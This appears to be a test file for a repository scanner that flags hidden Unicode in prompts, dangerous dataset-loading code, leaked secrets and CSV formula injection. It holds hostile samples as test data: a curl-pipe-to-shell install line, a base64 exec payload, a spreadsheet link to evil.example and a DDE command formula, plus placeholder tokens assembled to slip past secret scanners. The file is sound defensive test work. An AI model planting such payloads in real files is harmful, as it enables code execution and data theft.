import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Severity } from '../../../src/domain/scan/index.ts';
import { fired, scan, told } from './build.ts';

const utf8 = (text: string): Uint8Array => Buffer.from(text);
// Assembled, so that no scanner of secrets takes this file for one.
const TOKEN = ['hf', 'abcDEFghiJKLmnoPQRstuVWXyz01234567'].join('_');
const KEY = ['-----BEGIN RSA', 'PRIVATE KEY-----\n', 'MIIEowIBAAKCAQEA'.repeat(8), '\n-----END']
  .join(' ')
  .replace('\n ', '\n');

const CASES: readonly (readonly [rule: string, severity: Severity, name: string, bytes: Uint8Array])[] = [
  ['WM-TEXT-001', 'high', 'chat_template.jinja', utf8('hello \u{e0041}\u{e0042}\u{e0043}')],
  ['WM-TEXT-001', 'high', 'system_prompt.txt', utf8(`You are helpful${'\u200b'.repeat(8)}`)],
  ['WM-TEXT-001', 'medium', 'system_prompt.txt', utf8('You are \u202eevil\u202c')],
  ['WM-TEXT-001', 'medium', 'prompt.txt', utf8('zero\u200bwidth')],
  ['WM-TEXT-001', 'low', 'README.md', utf8('text \u202e\u202c')],
  ['WM-CODE-001', 'medium', 'loading.py', utf8('import datasets\nclass X(datasets.GeneratorBasedBuilder):\n  pass\n')],
  ['WM-CODE-001', 'medium', 'setup_data.py', utf8('import subprocess\nsubprocess.run(["ls"])\n')],
  [
    'WM-CODE-002',
    'high',
    'loading.py',
    utf8('import os, datasets\nclass X(datasets.GeneratorBasedBuilder):\n  def f(self):\n    os.system("x")\n'),
  ],
  ['WM-CODE-002', 'high', 'helper.py', utf8('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n')],
  ['WM-CODE-002', 'high', 'install.sh', utf8('#!/bin/sh\ncurl http://x.example/i | sh\n')],
  ['WM-SECRET-001', 'high', 'id_rsa', utf8(KEY)],
  ['WM-SECRET-002', 'medium', 'config.json', utf8(JSON.stringify({ token: TOKEN }))],
  [
    'WM-SECRET-002',
    'medium',
    'notebook.ipynb',
    utf8(JSON.stringify({ cells: [{ cell_type: 'code', source: [`t = "${TOKEN}"`] }] })),
  ],
  ['WM-DATA-001', 'high', 'data.csv', utf8('name,x\n"=HYPERLINK(""http://evil.example"",""click"")",1\n')],
  ['WM-DATA-001', 'high', 'data.csv', utf8("a,b\n=cmd|'/c calc'!A0,2\n")],
  ['WM-DATA-001', 'medium', 'data.csv', utf8('a,b\n"=SUM(A1:A2)",2\n')],
];

for (const [rule, severity, name, bytes] of CASES) {
  test(`${rule} at ${severity}: ${name} ${JSON.stringify(Buffer.from(bytes).toString().slice(0, 40))}`, async () => {
    const result = await scan(name, bytes);
    assert.ok(fired(result, rule, severity), told(result));
  });
}

test('honest texts pass', async () => {
  const honest: Record<string, string> = {
    'data.csv': 'name,x\nfoo,-1\nbar,+3.5\n-0.2,=\n"a, b",@home\n+49 30 1234,-x\n',
    'README.md':
      'Never call `pickle.loads`; `os.system("x")` would run. 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}\n',
    'vocab.txt': 'a\nb\n##ing\n',
    'config.json': '{"token": "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "key": "AKIAIOSFODNN7EXAMPLE"}',
  };
  for (const [name, content] of Object.entries(honest)) {
    const result = await scan(name, utf8(content));
    assert.equal(result.verdict, 'pass', `${name}: ${told(result)}`);
  }
});
